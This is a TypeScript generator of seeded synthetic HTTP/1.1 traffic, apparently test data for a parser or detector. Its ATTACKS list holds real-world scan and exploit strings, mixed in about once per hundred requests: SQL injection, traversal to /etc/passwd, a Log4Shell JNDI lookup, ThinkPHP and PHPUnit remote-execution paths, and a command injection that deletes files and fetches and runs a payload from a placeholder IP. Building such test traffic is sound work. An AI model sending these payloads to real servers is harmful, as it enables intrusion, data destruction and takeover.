import { gzipSync } from 'node:zlib'
import { Random } from './random.ts'

/** One request and its response as they stand on the wire. */
export interface Exchange {
  readonly request: Buffer
  readonly response: Buffer
}

const WORDS =
  'account agent alpha archive basket blue branch bridge catalog center check cloud compact corner daily data desk detail digital download event factory field final forum front garden global green guide harbor home image index item journal kernel label landing lemon letter light list local login market media metal mobile model news north number office online orange order page paper parcel photo place point portal price product public quick rapid reader record red report river road sale search secure select service shop silver simple site small smart social sound source spring start station stock store stream street studio summer supply system table team tech ticket tool track travel update upload user value video view visit water web winter wood work world yellow'.split(
    ' ',
  )
const ZONES = 'com com com com net org io de co.uk info dev app ru cn top xyz tk biz'.split(' ')
const AGENTS: readonly string[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0',
]
const PROGRAMS: readonly string[] = [
  'curl/8.5.0',
  'Wget/1.21.4',
  'python-requests/2.32.3',
  'Go-http-client/1.1',
  'okhttp/4.12.0',
  'Java/17.0.11',
  'Microsoft-CryptoAPI/10.0',
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)',
]
const ATTACKS: readonly string[] = [
  "/product.php?id=1'+UNION+SELECT+1,user(),3--",
  '/index.php?id=-1%20UNION%20SELECT%20password%20FROM%20users',
  '/cgi-bin/../../../../etc/passwd',
  '/download?file=../../../../../../etc/passwd',
  '/wp-login.php',
  '/xmlrpc.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/.env',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws',
  '/?x=${jndi:ldap://203.0.113.7:1389/a}',
  '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/',
  '/phpmyadmin/scripts/setup.php',
  '/manager/html',
  '/search?q=<script>alert(1)</script>',
]
const KINDS = [
  { share: 22, kind: 'page' },
  { share: 30, kind: 'asset' },
  { share: 16, kind: 'api' },
  { share: 10, kind: 'beacon' },
  { share: 7, kind: 'form' },
  { share: 6, kind: 'json' },
  { share: 4, kind: 'cached' },
  { share: 2, kind: 'upload' },
  { share: 2, kind: 'program' },
  { share: 1, kind: 'attack' },
] as const
type Kind = (typeof KINDS)[number]['kind']

/** Who talks with whom for the length of a connection. */
interface Visit {
  readonly host: string
  readonly agent: string
  readonly cookie: string
}

interface Body {
  readonly type: string
  readonly bytes: Buffer
  readonly isGzip: boolean
}

/**
 * HTTP/1.1 as clients and servers of many kinds exchange it: pages, assets, calls of APIs, beacons, forms,
 * uploads, downloads, and one attack in a hundred. The same seed gives the same bytes.
 */
export class Traffic {
  readonly #random: Random
  readonly #hosts: readonly string[]
  readonly #pages: readonly Body[]
  readonly #answers: readonly Body[]
  readonly #assets: readonly Body[]
  readonly #programs: readonly Body[]

  constructor(seed: number) {
    const random = new Random(seed)
    this.#random = random
    const times = <T>(count: number, make: () => T): T[] => Array.from({ length: count }, make)
    this.#hosts = times(600, () => this.#host())
    this.#pages = times(96, () => this.#page())
    this.#answers = times(64, () => ({
      type: 'application/json',
      bytes: this.#json(1 + random.below(12)),
      isGzip: false,
    }))
    this.#assets = times(96, () => this.#asset())
    this.#programs = times(8, () => ({
      type: 'application/octet-stream',
      bytes: Buffer.concat([
        Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0', 'latin1'),
        Buffer.alloc(44),
        Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1'),
        random.bytes(2000 + random.below(9000)),
      ]),
      isGzip: false,
    }))
  }

  visit(): Visit {
    const random = this.#random
    return {
      host: random.pick(this.#hosts),
      agent: random.pick(random.chance(85) ? AGENTS : PROGRAMS),
      cookie: `session=${random.hex(32)}; lang=en; _ga=GA1.2.${random.below(1e9)}.${random.below(1e9)}`,
    }
  }

  exchange(visit: Visit): Exchange {
    const kind = this.#kind()
    const random = this.#random
    switch (kind) {
      case 'page':
        return this.#get(visit, `/${this.#path()}${this.#query(30)}`, random.pick(this.#pages))
      case 'asset': {
        const body = random.pick(this.#assets)
        const name = `${random.pick(WORDS)}-${random.hex(8)}.${extensionOf(body.type)}`
        return this.#get(visit, `/assets/${random.pick(WORDS)}/${name}`, body)
      }
      case 'api':
        return this.#get(
          visit,
          `/api/v${1 + random.below(3)}/${this.#path()}?${this.#pairs(1 + random.below(4))}`,
          random.pick(this.#answers),
        )
      case 'beacon':
        return this.#reply(
          this.#head(visit, 'GET', `/collect?${this.#pairs(6 + random.below(14))}`, 'image/*', ''),
          '204 No Content',
          null,
        )
      case 'form':
        return this.#form(visit)
      case 'json':
        return this.#reply(
          this.#post(visit, 'application/json', this.#json(1 + random.below(6))),
          '200 OK',
          random.pick(this.#answers),
        )
      case 'cached': {
        const target = `/assets/${random.pick(WORDS)}.css`
        const extra = `If-None-Match: "${random.hex(16)}"\r\n`
        const head = this.#head(visit, 'GET', target, 'text/css,*/*;q=0.1', extra)
        return this.#reply(head, '304 Not Modified', null)
      }
      case 'upload':
        return this.#upload(visit)
      case 'program':
        return this.#get(
          visit,
          `/download/${random.pick(WORDS)}-${random.below(99)}.exe`,
          random.pick(this.#programs),
        )
      case 'attack':
        return this.#reply(
          this.#head(visit, 'GET', random.pick(ATTACKS), '*/*', ''),
          '404 Not Found',
          random.pick(this.#pages),
        )
    }
  }

  #kind(): Kind {
    let at = this.#random.below(100)
    for (const { share, kind } of KINDS) {
      if (at < share) return kind
      at -= share
    }
    return 'page'
  }

  #host(): string {
    const random = this.#random
    const prefix = random.pick(['www.', 'www.', 'api.', 'cdn.', 'static.', ''])
    const joint = random.pick(['', '-'])
    return `${prefix}${random.pick(WORDS)}${joint}${random.pick(WORDS)}.${random.pick(ZONES)}`
  }

  #path(): string {
    const random = this.#random
    let path = random.pick(WORDS)
    for (let more = random.below(4); more > 0; more -= 1)
      path += `/${random.chance(20) ? String(random.below(100_000)) : random.pick(WORDS)}`
    return path + random.pick(['', '', '/', '.html', '.php', '.aspx'])
  }

  #pairs(count: number): string {
    const random = this.#random
    const pairs: string[] = []
    for (let index = 0; index < count; index += 1) {
      const value = random.pick([
        random.pick(WORDS),
        String(random.below(1e6)),
        random.hex(12),
        `${random.pick(WORDS)}%20${random.pick(WORDS)}`,
      ])
      pairs.push(`${random.pick(WORDS)}=${value}`)
    }
    return pairs.join('&')
  }

  #query(percent: number): string {
    return this.#random.chance(percent) ? `?${this.#pairs(1 + this.#random.below(3))}` : ''
  }

  #sentence(words: number): string {
    let text = ''
    for (let index = 0; index < words; index += 1) text += ` ${this.#random.pick(WORDS)}`
    return text.slice(1)
  }

  #page(): Body {
    const random = this.#random
    let html = `<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>${this.#sentence(4)}</title>\n<link rel="stylesheet" href="/assets/main-${random.hex(8)}.css"><script src="/assets/app-${random.hex(8)}.js" defer></script></head>\n<body class="${random.pick(WORDS)}">\n`
    for (let rows = 4 + random.below(24); rows > 0; rows -= 1)
      html += `<div id="${random.pick(WORDS)}-${rows}"><a href="/${this.#path()}${this.#query(20)}">${this.#sentence(3)}</a><p>${this.#sentence(8 + random.below(20))}.</p></div>\n`
    html += `<script>window.data = {"user": "${random.hex(10)}", "items": [${random.below(100)}, ${random.below(100)}]}; document.getElementById("main");</script></body></html>\n`
    const bytes = Buffer.from(html)
    const isGzip = random.chance(40)
    return { type: 'text/html; charset=utf-8', bytes: isGzip ? gzipSync(bytes) : bytes, isGzip }
  }

  #json(items: number): Buffer {
    const random = this.#random
    const list = Array.from({ length: items }, () => ({
      id: random.hex(16),
      name: this.#sentence(2),
      price: random.below(10_000) / 100,
      tags: [random.pick(WORDS), random.pick(WORDS)],
      url: `/${this.#path()}`,
    }))
    return Buffer.from(JSON.stringify({ status: 'ok', count: items, items: list }))
  }

  #asset(): Body {
    const random = this.#random
    const type = random.pick(['image/png', 'image/jpeg', 'text/css', 'application/javascript'])
    if (type.startsWith('image'))
      return { type, bytes: random.bytes(300 + random.below(6000)), isGzip: false }
    let text = ''
    for (let rows = 10 + random.below(70); rows > 0; rows -= 1)
      text +=
        type === 'text/css'
          ? `.${random.pick(WORDS)}-${rows}{margin:${random.below(40)}px;color:#${random.hex(6)}}\n`
          : `function ${random.pick(WORDS)}${rows}(a,b){return a.${random.pick(WORDS)}+b["${random.pick(WORDS)}"]*${random.below(99)};}\n`
    const bytes = Buffer.from(text)
    const isGzip = random.chance(50)
    return { type, bytes: isGzip ? gzipSync(bytes) : bytes, isGzip }
  }

  #head(visit: Visit, method: string, target: string, accept: string, extra: string): string {
    const { host, agent, cookie } = visit
    const random = this.#random
    const isBrowser = agent.startsWith('Mozilla/5.0 (')
    let head = `${method} ${target} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${agent}\r\nAccept: ${accept}\r\n`
    if (isBrowser)
      head += 'Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\n'
    if (isBrowser && random.chance(60)) head += `Referer: http://${host}/${this.#path()}\r\n`
    if (isBrowser || random.chance(30)) head += 'Connection: keep-alive\r\n'
    if (isBrowser && random.chance(70)) head += `Cookie: ${cookie}\r\n`
    return `${head}${extra}\r\n`
  }

  #post(visit: Visit, type: string, body: Buffer): Buffer {
    const extra = `Content-Type: ${type}\r\nContent-Length: ${body.length}\r\nOrigin: http://${visit.host}\r\n`
    const target = `/${this.#path()}`
    return Buffer.concat([
      Buffer.from(this.#head(visit, 'POST', target, '*/*', extra), 'latin1'),
      body,
    ])
  }

  #form(visit: Visit): Exchange {
    const body = Buffer.from(this.#pairs(3 + this.#random.below(12)), 'latin1')
    const request = this.#post(visit, 'application/x-www-form-urlencoded', body)
    return this.#reply(request, '302 Found', null, `Location: /${this.#path()}\r\n`)
  }

  #upload(visit: Visit): Exchange {
    const random = this.#random
    const boundary = `----WebKitFormBoundary${random.hex(16)}`
    const body = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${random.pick(WORDS)}.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
      ),
      random.pick(this.#assets).bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ])
    return this.#reply(
      this.#post(visit, `multipart/form-data; boundary=${boundary}`, body),
      '200 OK',
      random.pick(this.#answers),
    )
  }

  #get(visit: Visit, target: string, body: Body): Exchange {
    const accept = body.type.startsWith('text/html')
      ? 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'
      : '*/*'
    return this.#reply(this.#head(visit, 'GET', target, accept, ''), '200 OK', body)
  }

  #reply(request: string | Buffer, status: string, body: Body | null, extra = ''): Exchange {
    const random = this.#random
    const isChunked = body !== null && random.chance(15)
    let head = `HTTP/1.1 ${status}\r\nDate: Wed, 10 Jul 2024 12:${10 + random.below(50)}:${10 + random.below(50)} GMT\r\nServer: ${random.pick(['nginx', 'Apache', 'nginx/1.24.0', 'cloudflare', 'Microsoft-IIS/10.0'])}\r\n`
    if (body !== null) head += `Content-Type: ${body.type}\r\n`
    if (body?.isGzip === true) head += 'Content-Encoding: gzip\r\n'
    if (isChunked) head += 'Transfer-Encoding: chunked\r\n'
    else if (status !== '304 Not Modified' && status !== '204 No Content')
      head += `Content-Length: ${body?.bytes.length ?? 0}\r\n`
    if (random.chance(10)) head += `Set-Cookie: id=${random.hex(24)}; Path=/; HttpOnly\r\n`
    head += `${extra}Cache-Control: max-age=${random.below(86_400)}\r\nConnection: keep-alive\r\n\r\n`
    const parts: Buffer[] = [Buffer.from(head, 'latin1')]
    if (body !== null && isChunked)
      parts.push(
        Buffer.from(`${body.bytes.length.toString(16)}\r\n`),
        body.bytes,
        Buffer.from('\r\n0\r\n\r\n'),
      )
    else if (body !== null) parts.push(body.bytes)
    return {
      request: typeof request === 'string' ? Buffer.from(request, 'latin1') : request,
      response: Buffer.concat(parts),
    }
  }
}

function extensionOf(type: string): string {
  switch (type) {
    case 'image/png':
      return 'png'
    case 'image/jpeg':
      return 'jpg'
    case 'text/css':
      return 'css'
    default:
      return 'js'
  }
}
